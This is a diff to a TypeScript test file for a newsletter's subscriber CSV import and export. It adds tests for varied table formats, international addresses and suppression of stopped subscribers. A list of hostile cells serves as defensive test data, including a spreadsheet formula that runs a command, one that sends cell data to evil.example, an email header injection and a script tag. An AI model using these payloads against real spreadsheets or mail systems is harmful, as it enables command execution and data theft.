@@ -3,6 +3,9 @@ import { join } from 'node:path';
 import { Readable } from 'node:stream';
 import fc from 'fast-check';
 import { afterEach, beforeEach, describe, expect, it } from 'vitest';
+import { FREQUENCIES, WEEKDAYS } from '../../src/core/newsletter.ts';
+import { addressKey } from '../../src/newsletter/address.ts';
+import { confirm } from '../../src/newsletter/confirm.ts';
 import { erase, stop } from '../../src/newsletter/preferences.ts';
 import { signUp } from '../../src/newsletter/sign-up.ts';
 import { exportSubscribers, importSubscribers } from '../../src/newsletter/subscriber-table.ts';
@@ -16,7 +19,7 @@ beforeEach(async () => {
 afterEach(() => place.remove());
 
 const RULES = { defaults: SETTINGS.defaults, topics: new Set(TOPICS.map(({ slug }) => slug)) };
-const take = async (csv: string, by = 'a paper list of 2025') => {
+const take = async (csv: string | Buffer, by = 'a paper list of 2025') => {
   const done = await importSubscribers(Readable.from([csv]), by, { ...place, rules: RULES, language: 'en' });
   return done.ok ? done.value : done.error;
 };
@@ -26,6 +29,24 @@ const give = async () => {
   return [lines[0], ...lines.slice(1).sort()].join('');
 };
 const HEAD = 'email,frequency,weekday,hour,timezone,topics\r\n';
+
+const quoted = (cell: string): string => `"${cell.replaceAll('"', '""')}"`;
+
+const utf16 = (text: string): Buffer => Buffer.from(`\ufeff${text}`, 'utf16le');
+
+/** Cells that spreadsheets, mail programs, browsers or JavaScript would make something of. */
+const HOSTILE = [
+  "=cmd|'/c calc'!A1",
+  '@SUM(1+1)*cmd',
+  '=HYPERLINK("https://evil.example/?"&A1)',
+  'x\r\nBcc: a@b.example',
+  '<script>1</script>',
+  '__proto__',
+  'constructor',
+  'astrology\u202e',
+  '\u0000',
+  '9'.repeat(5000),
+];
 
 describe('importing subscribers', () => {
   it('takes what a table says, and the defaults where it says nothing', async () => {
@@ -49,8 +70,27 @@ describe('importing subscribers', () => {
     ['columns in another order, and ones that mean nothing here', 'name,Email\r\nMia,mia@example.org\r\n'],
     ['empty lines', 'email\r\n\r\nmia@example.org\r\n\r\n'],
     ['quotation marks', '"email"\r\n"mia@example.org"\r\n'],
+    ['semicolons', 'email;frequency;topics\r\nmia@example.org;daily;cardiology,oncology\r\n'],
+    ['tabs', 'email\tfrequency\nmia@example.org\tdaily\n'],
+    ['a comma in a cell of a table with semicolons', 'name;email\n"Mia, or Maria";mia@example.org\n'],
+    ['carriage returns alone', 'email,frequency\rmia@example.org,daily\r'],
+    ['what spreadsheets call Unicode text', utf16('email\tfrequency\r\nmia@example.org\tdaily\r\n')],
   ])('reads a table with %s', async (_, csv) => {
     expect(await take(csv)).toMatchObject({ added: 1, bad: [] });
+    expect((await at(place, 'mia@example.org'))?.email).toBe('mia@example.org');
+  });
+
+  it('reads a table that comes byte by byte', async () => {
+    const bytes = [...Buffer.from('\ufeffemail;hour\r\nмия@пример.рф;7\r\n')].map((byte) =>
+      Buffer.from([byte]),
+    );
+    const done = await importSubscribers(Readable.from(bytes), 'x', {
+      ...place,
+      rules: RULES,
+      language: 'en',
+    });
+    expect(done).toMatchObject({ value: { added: 1, bad: [] } });
+    expect((await at(place, 'мия@пример.рф'))?.choice.hour).toBe(7);
   });
 
   it('tells every bad line by its number, never its address, and takes the others', async () => {
@@ -58,6 +98,21 @@ describe('importing subscribers', () => {
     const done = await take(csv);
     expect(done).toMatchObject({ added: 1, bad: [{ line: 3 }, { line: 4 }, { line: 6 }, { line: 7 }] });
     expect(JSON.stringify(done)).not.toMatch(/nobody|joe@|ann@/);
+  });
+
+  it.each([
+    ['address', (cell: string) => `${cell},daily,monday,8,UTC,cardiology`],
+    ['frequency', (cell: string) => `mia@example.org,${cell},monday,8,UTC,cardiology`],
+    ['weekday', (cell: string) => `mia@example.org,daily,${cell},8,UTC,cardiology`],
+    ['hour', (cell: string) => `mia@example.org,daily,monday,${cell},UTC,cardiology`],
+    ['time zone', (cell: string) => `mia@example.org,daily,monday,8,${cell},cardiology`],
+    ['topic', (cell: string) => `mia@example.org,daily,monday,8,UTC,${cell}`],
+  ])('takes nothing that is no %s, and repeats none of it', async (_, line) => {
+    const done = await take(`${HEAD}${HOSTILE.map((cell) => line(quoted(cell))).join('\r\n')}\r\n`);
+    expect(done).toMatchObject({ added: 0, already: 0, suppressed: 0 });
+    expect(typeof done === 'string' ? [] : done.bad).toHaveLength(HOSTILE.length);
+    expect(JSON.stringify(done)).not.toMatch(/cmd|HYPERLINK|Bcc|script|proto|astrology/);
+    expect(await give()).toBe(HEAD);
   });
 
   it('can be repeated: nobody is added twice, and what somebody chose since stays', async () => {
@@ -72,11 +127,20 @@ describe('importing subscribers', () => {
     ['bounced', (id: string) => stop(id, 'bounced', place)],
     ['complained', (id: string) => stop(id, 'complained', place)],
     ['was erased', (id: string) => erase(id, place)],
-  ])('leaves out who %s', async (_, leave) => {
-    const csv = `${HEAD}mia@example.org,,,,,\r\n`;
+  ])('leaves out who %s, however the address is written', async (_, leave) => {
+    const csv = `${HEAD}mia@bücher.example,,,,,\r\n`;
     await take(csv);
-    await leave((await at(place, 'mia@example.org'))?.id ?? '');
-    expect(await take(csv)).toEqual({ added: 0, already: 0, suppressed: 1, bad: [] });
+    await leave((await at(place, 'mia@bücher.example'))?.id ?? '');
+    const again = [
+      'mia@bücher.example',
+      'MIA@BÜCHER.example',
+      'mia@xn--bcher-kva.example',
+      "' mia@bücher.example",
+    ];
+    for (const email of again.slice(0, 3))
+      expect(await take(`email\n${email}\n`)).toEqual({ added: 0, already: 0, suppressed: 1, bad: [] });
+    expect(await take(`email\n${again.join('\n')}\n`)).toMatchObject({ added: 0, suppressed: 3 });
+    expect(await give()).toBe(HEAD);
   });
 
   it('confirms who had signed up and not confirmed yet', async () => {
@@ -121,32 +185,49 @@ describe('exporting subscribers', () => {
   });
 
   it('comes back unchanged over any export and import', async () => {
-    const local = fc.stringMatching(/^['=+\-a-z0-9]{1,12}$/);
+    const reader = fc.record({
+      local: fc.stringMatching(/^['=+\-a-zäжß0-9]{1,12}$/),
+      frequency: fc.constantFrom(...FREQUENCIES),
+      weekday: fc.constantFrom(...WEEKDAYS),
+      hour: fc.integer({ min: 0, max: 23 }),
+      timezone: fc.constantFrom('UTC', ...Intl.supportedValuesOf('timeZone')),
+      topics: fc.subarray(TOPICS.map(({ slug }) => slug)),
+    });
     await fc.assert(
-      fc.asyncProperty(fc.uniqueArray(local, { maxLength: 8 }), async (locals) => {
-        const [from, to] = [await people(), await people()];
-        try {
-          const give = async ({ store }: People) => {
-            const lines: string[] = [];
-            for await (const line of exportSubscribers(store)) lines.push(line);
-            return lines.sort().join('');
-          };
-          for (const name of locals) {
-            const email = `${name}@example.org`;
-            await signUp({ email, choice: CHOICE, language: 'en', consentText: '' }, from);
-            const { confirm } = await import('../../src/newsletter/confirm.ts');
-            await confirm(await from.lastToken(), from);
+      fc.asyncProperty(
+        fc.uniqueArray(reader, { maxLength: 8, selector: ({ local }) => addressKey(`${local}@x.example`) }),
+        async (readers) => {
+          const [from, to] = [await people(), await people()];
+          try {
+            const give = async ({ store }: People) => {
+              const lines: string[] = [];
+              for await (const line of exportSubscribers(store)) lines.push(line);
+              return lines.sort().join('');
+            };
+            for (const { local, ...choice } of readers) {
+              const email = `${local}@example.org`;
+              await signUp({ email, choice, language: 'en', consentText: '' }, from);
+              await confirm(await from.lastToken(), from);
+            }
+            const csv = await give(from);
+            const rules = { ...RULES };
+            const lines = csv.split('\r\n').sort((one) => (one.startsWith('email,') ? -1 : 0));
+            await importSubscribers(Readable.from([lines.join('\r\n')]), 'x', {
+              ...to,
+              rules,
+              language: 'en',
+            });
+            expect(await give(to)).toBe(csv);
+            const chosen = await Promise.all(readers.map(({ local }) => at(to, `${local}@example.org`)));
+            expect(chosen.map((each) => each?.choice)).toEqual(
+              readers.map(({ local: _, topics, ...rest }) => ({ ...rest, topics: topics.sort() })),
+            );
+          } finally {
+            await from.remove();
+            await to.remove();
           }
-          const csv = await give(from);
-          const rules = { ...RULES };
-          const lines = csv.split('\r\n').sort((one) => (one.startsWith('email,') ? -1 : 0));
-          await importSubscribers(Readable.from([lines.join('\r\n')]), 'x', { ...to, rules, language: 'en' });
-          expect(await give(to)).toBe(csv);
-        } finally {
-          await from.remove();
-          await to.remove();
-        }
-      }),
+        },
+      ),
       { numRuns: 8 },
     );
   });
